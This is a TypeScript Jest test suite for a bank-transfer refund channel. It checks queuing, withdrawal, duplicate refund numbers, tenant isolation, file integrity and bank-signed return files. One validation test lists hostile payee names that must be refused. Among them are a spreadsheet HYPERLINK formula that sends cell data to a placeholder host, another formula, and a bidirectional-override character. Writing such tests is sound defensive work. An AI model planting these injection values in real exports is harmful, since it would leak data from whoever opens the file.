import { generateKeyPairSync, randomInt, randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { money } from '@recourse/kernel'
import { createTestDatabase, type TestDatabase } from '@recourse/test-support'
import pg from 'pg'
import type { PayeeDetails, RefundRequest } from '../port.js'
import type { BankTransferChannel } from './channel.js'
import { PromptOffice, readReturns } from './prompt-office.js'
import type { BehaviourName } from './sandbox/behaviours.js'
import { startBankSandbox, type RunningBankSandbox } from './sandbox/testing.js'
import { migrateBankTransfer } from './testing.js'

const NAME = '林小满'

let database: TestDatabase
let pool: pg.Pool
let bank: RunningBankSandbox
let channel: BankTransferChannel
beforeAll(async () => {
  database = await createTestDatabase()
  await migrateBankTransfer(database.url)
  pool = new pg.Pool({ connectionString: database.url, max: 5 })
  bank = await startBankSandbox(database.url)
  channel = bank.channel({ pool })
})
afterAll(async () => {
  await bank.stop()
  await pool.end()
  await database.drop()
})

const opened = async (behaviour?: BehaviourName): Promise<PayeeDetails> => {
  const accountNo = `6222${Array.from({ length: 12 }, () => randomInt(10)).join('')}`
  await bank.open({ accountNo, accountName: NAME, behaviour })
  return { accountName: NAME, accountNo }
}

const refundTo = (payee: PayeeDetails | undefined, changes: Partial<RefundRequest> = {}): RefundRequest => ({
  outRefundNo: `case-${randomUUID()}`, paymentReference: randomUUID(), amount: money(3_000, 'CNY'), paid: money(10_000, 'CNY'), reason: '退款', tenant: 'demo', ...(payee && { payee }), ...changes,
})

const moved = async ({ outRefundNo }: RefundRequest) => (await bank.movements()).filter((movement) => movement.outRefundNo === outRefundNo).map(({ direction }) => direction)

const paid = async (request: RefundRequest): Promise<void> => {
  await new PromptOffice().sendQueued(channel, request.tenant!)
  bank.settle()
  await readReturns(channel)
}

describe('an instruction', () => {
  it('is taken over and moves nothing until a file of it was approved and sent (MB4)', async () => {
    const request = refundTo(await opened())
    const waits = { channelReference: request.outRefundNo, queued: true }
    expect(await channel.refund(request)).toEqual({ outcome: 'accepted', ...waits })
    bank.settle()
    await readReturns(channel)
    expect(await channel.query(request)).toEqual({ outcome: 'pending', ...waits })
    expect(await moved(request)).toEqual([])
    await paid(request)
    expect(await channel.query(request)).toMatchObject({ outcome: 'succeeded', amount: money(3_000, 'CNY') })
  })

  it('is taken back only while it is in no file, and then never paid under its number', async () => {
    const request = refundTo(await opened())
    expect(await channel.withdraw(request)).toBe(false)
    await channel.refund(request)
    for (const _ of [1, 2]) expect(await channel.withdraw(request)).toBe(true)
    expect(await channel.query(request)).toMatchObject({ outcome: 'failed', code: 'REFUND_CANCELED', action: 'final' })
    expect(await channel.refund(request)).toMatchObject({ outcome: 'failed', code: 'REFUND_CANCELED' })
    await paid(request)
    expect(await moved(request)).toEqual([])

    const batched = refundTo(await opened())
    await channel.refund(batched)
    await channel.office.cut(batched.tenant!, randomUUID())
    expect(await channel.withdraw(batched)).toBe(false)
  })

  it('to another payee under a used number is refused, whatever became of it, unless it failed by the payee', async () => {
    const request = refundTo(await opened())
    const other = { ...request, payee: await opened() }
    await channel.refund(request)
    expect(await channel.refund(other)).toMatchObject({ outcome: 'failed', code: 'REFUND_NUMBER_REUSED' })
    await paid(request)
    expect(await channel.refund(other)).toMatchObject({ outcome: 'failed', code: 'REFUND_NUMBER_REUSED' })
    expect(await channel.refund({ ...request, payee: { accountName: ` ${NAME}`, accountNo: request.payee!.accountNo.replace(/^(....)/, '$1 ') } })).toMatchObject({ outcome: 'succeeded' })
    expect(await moved(request)).toEqual(['out'])
  })

  it.each<[string, PayeeDetails | undefined]>([
    ['PAYEE_REQUIRED', undefined],
    ['ACCOUNT_NUMBER_INVALID', { accountName: NAME, accountNo: '6222-x' }],
    ['ACCOUNT_NAME_MISMATCH', { accountName: ' ', accountNo: '622200000000' }],
    ['ACCOUNT_NAME_MISMATCH', { accountName: '林\n小满', accountNo: '622200000000' }],
    ['ACCOUNT_NAME_MISMATCH', { accountName: '林\u202e小满', accountNo: '622200000000' }],
    ['ACCOUNT_NAME_MISMATCH', { accountName: '林\u2028小满', accountNo: '622200000000' }],
    ['ACCOUNT_NAME_MISMATCH', { accountName: '=HYPERLINK("http://x.invalid/"&C2,"林小满")', accountNo: '622200000000' }],
    ['ACCOUNT_NAME_MISMATCH', { accountName: '＠SUM(1)', accountNo: '622200000000' }],
    ['PAYEE_BANK_UNKNOWN', { accountName: NAME, accountNo: '622200000000', bankCode: '12' }],
  ])('that cannot stand in a file is told at once, to be corrected: %s (LS11)', async (code, payee) => {
    const request = refundTo(payee)
    expect(await channel.refund(request)).toMatchObject({ outcome: 'failed', code, action: 'correctable' })
    expect(await channel.query(request)).toEqual({ outcome: 'not-found' })
    expect(await channel.refund({ ...request, payee: await opened() })).toMatchObject({ outcome: 'accepted' })
  })

  it('needs the tenant whose people work on it', async () => {
    const { tenant: _tenant, ...request } = refundTo(await opened())
    await expect(channel.refund(request)).rejects.toThrow(RangeError)
  })

  it('is of one tenant: another one\'s payment of the same reference neither blocks it nor is counted with it', async () => {
    const [tenant, paymentReference] = [randomUUID(), randomUUID()]
    const mine = refundTo(await opened(), { tenant, paymentReference, amount: money(10_000, 'CNY') })
    const theirs = refundTo(await opened(), { tenant: randomUUID(), paymentReference, amount: money(4_000, 'CNY'), paid: money(4_000, 'CNY') })
    for (const request of [theirs, mine]) expect(await channel.refund(request)).toMatchObject({ outcome: 'accepted' })
    expect(await channel.refund(refundTo(await opened(), { tenant, paymentReference, amount: money(1, 'CNY') }))).toMatchObject({ outcome: 'failed', code: 'AMOUNT_ABOVE_PAID' })
    expect(await channel.refund({ ...mine, tenant: theirs.tenant!, paid: theirs.paid })).toMatchObject({ outcome: 'failed', code: 'REFUND_NUMBER_REUSED' })
  })

  it('that the bank puts off is sent again under its number and paid once', async () => {
    const request = refundTo(await opened('no-balance'))
    await channel.refund(request)
    await paid(request)
    expect(await channel.query(request)).toMatchObject({ outcome: 'failed', code: 'MERCHANT_BALANCE_TOO_LOW', action: 'retry' })
    expect((await pool.query('SELECT payee_sealed FROM bank_transfer_instruction WHERE out_refund_no = $1', [request.outRefundNo])).rows).toEqual([{ payee_sealed: null }])
    await channel.refund(request)
    await paid(request)
    expect(await moved(request)).toEqual(['out'])
  })
})

describe('a file', () => {
  it('holds what is queued of one tenant; two at once share nothing', async () => {
    const tenant = randomUUID()
    const mine = refundTo(await opened(), { tenant })
    const theirs = refundTo(await opened(), { tenant: 'other' })
    await Promise.all([mine, theirs].map((request) => channel.refund(request)))
    const files = await Promise.all([1, 2, 3].map(() => channel.office.cut(tenant, randomUUID())))
    expect(files.flatMap((file) => file?.instructions ?? [])).toEqual([{ outRefundNo: mine.outRefundNo, amount: mine.amount }])
    expect(await channel.office.queueOf('other')).toEqual({ count: 1, total_minor: 3_000 })
  })

  it('leaves only as it was approved, and not once it was freed', async () => {
    const tenant = randomUUID()
    const request = refundTo(await opened(), { tenant })
    await channel.refund(request)
    const { fileNo, sha256 } = (await channel.office.cut(tenant, randomUUID()))!
    await expect(channel.office.deliver(fileNo, 'f'.repeat(64))).rejects.toThrow('not what was approved')
    await channel.office.free(fileNo)
    await expect(channel.office.deliver(fileNo, sha256)).rejects.toThrow('was freed')
    expect(await channel.office.file(fileNo)).toBeUndefined()
    expect((await pool.query('SELECT status, content_sealed, sha256 FROM bank_transfer_file WHERE file_no = $1', [fileNo])).rows).toEqual([{ status: 'freed', content_sealed: null, sha256 }])
    expect(await channel.office.locate(fileNo)).toEqual({ outcome: 'absent' })
    expect(await channel.office.cut(tenant, fileNo)).toBeUndefined()
    expect((await channel.office.cut(tenant, randomUUID()))!.instructions).toHaveLength(1)
  })

  it('that was changed in the ledger does not open', async () => {
    const tenant = randomUUID()
    await channel.refund(refundTo(await opened(), { tenant }))
    const { fileNo, sha256 } = (await channel.office.cut(tenant, randomUUID()))!
    await pool.query('UPDATE bank_transfer_file SET content_sealed = set_byte(content_sealed, 20, get_byte(content_sealed, 20) # 1) WHERE file_no = $1', [fileNo])
    await expect(channel.office.deliver(fileNo, sha256)).rejects.toThrow('does not open')
  })

  it('that the bank takes none of is refused, and its instructions go with the next one', async () => {
    const tenant = randomUUID()
    const request = refundTo(await opened(), { tenant })
    const mistaken = bank.channel({ pool, keys: { ...bank.keys, payerAccount: '1234567890' } })
    await mistaken.refund(request)
    const { fileNo, sha256 } = (await mistaken.office.cut(tenant, randomUUID()))!
    expect(await mistaken.office.deliver(fileNo, sha256)).toEqual({ outcome: 'refused', code: 'FILE_MALFORMED' })
    await mistaken.office.free(fileNo)
    await paid(request)
    expect(await moved(request)).toEqual(['out'])
  })

  it('whose answer was lost makes the outcome unknown while the bank does not answer, and never gets another number', async () => {
    const tenant = randomUUID()
    const request = refundTo(await opened('server-error-after'), { tenant })
    await channel.refund(request)
    const { fileNo, sha256 } = (await channel.office.cut(tenant, randomUUID()))!
    expect(await channel.office.deliver(fileNo, sha256)).toMatchObject({ outcome: 'unknown', why: 'server-error' })
    const cutOff = bank.channel({ pool, url: 'http://127.0.0.1:1' })
    expect(await cutOff.query(request)).toMatchObject({ outcome: 'unknown', why: 'connection-lost' })
    expect(await channel.office.cut(tenant, randomUUID())).toBeUndefined()
    expect(await channel.query(request)).toEqual({ outcome: 'pending', channelReference: request.outRefundNo })
    expect(await channel.refund(request)).toEqual({ outcome: 'accepted', channelReference: request.outRefundNo })
    expect(await channel.office.locateInstruction(request.outRefundNo)).toBeUndefined()
    await expect(channel.office.free(fileNo)).rejects.toThrow('is at the bank')
  })
})

it('a refund whose file the bank does not have yet is never said to be nowhere: no other number may pay it (FO10)', async () => {
  const tenant = randomUUID()
  const request = refundTo(await opened('server-error-before'), { tenant })
  await channel.refund(request)
  const { fileNo, sha256 } = (await channel.office.cut(tenant, randomUUID()))!
  expect(await channel.office.deliver(fileNo, sha256)).toMatchObject({ outcome: 'unknown', why: 'server-error' })
  expect(await channel.office.locate(fileNo)).toEqual({ outcome: 'absent' })
  expect(await channel.query(request)).toMatchObject({ outcome: 'pending', queued: true })
  expect(await channel.office.deliver(fileNo, sha256)).toEqual({ outcome: 'delivered' })
  expect(await channel.query(request)).toEqual({ outcome: 'pending', channelReference: request.outRefundNo })
  bank.settle()
  await readReturns(channel)
  expect(await channel.query(request)).toMatchObject({ outcome: 'succeeded' })
  expect(await moved(request)).toEqual(['out'])
})

describe('return files', () => {
  it('may come in any order, and again: money that was paid stays paid, money that came back stays back', async () => {
    const tenant = randomUUID()
    const request = refundTo(await opened('bounces'), { tenant })
    await channel.refund(request)
    await new PromptOffice().sendQueued(channel, tenant)
    bank.settle()
    await bank.channel({ pool }).office.newReturns()
    bank.settle()
    const files = await channel.office.newReturns()
    if ('outcome' in files) throw new Error(files.detail)
    for (const file of [...files.toReversed(), ...files]) expect(await channel.office.read(file)).toMatchObject({ results: expect.any(Array) })
    expect(await channel.query(request)).toMatchObject({ outcome: 'returned', code: 'TRANSFER_RETURNED' })
  })

  it('of a failure do not undo what was paid in a later file', async () => {
    const tenant = randomUUID()
    const wrong = refundTo({ ...(await opened()), accountName: '林小曼' }, { tenant })
    await channel.refund(wrong)
    await new PromptOffice().sendQueued(channel, tenant)
    bank.settle()
    const files = await channel.office.newReturns()
    if ('outcome' in files) throw new Error(files.detail)
    for (const file of files) await channel.office.read(file)
    const corrected = { ...wrong, payee: { ...wrong.payee!, accountName: NAME } }
    await channel.refund(corrected)
    for (const file of files) await channel.office.read(file)
    expect(await channel.query(corrected)).toMatchObject({ outcome: 'pending' })
    await paid(corrected)
    for (const file of files) await channel.office.read(file)
    expect(await channel.query(corrected)).toMatchObject({ outcome: 'succeeded' })
    expect(await moved(wrong)).toEqual(['out'])
  })

  it('count only with the signature of the bank, over these very bytes', async () => {
    await paid(refundTo(await opened()))
    const fresh = bank.channel({ pool, keys: { ...bank.keys, bankPublicKey: generateKeyPairSync('rsa', { modulusLength: 2_048 }).publicKey } })
    expect(await fresh.office.newReturns()).toMatchObject({ outcome: 'unknown', why: 'unverified-answer' })
    expect(await channel.office.read({ content: Buffer.from('H,RETURN'), signature: 'x' })).toBe('NOT_SIGNED_BY_BANK')
  })
})
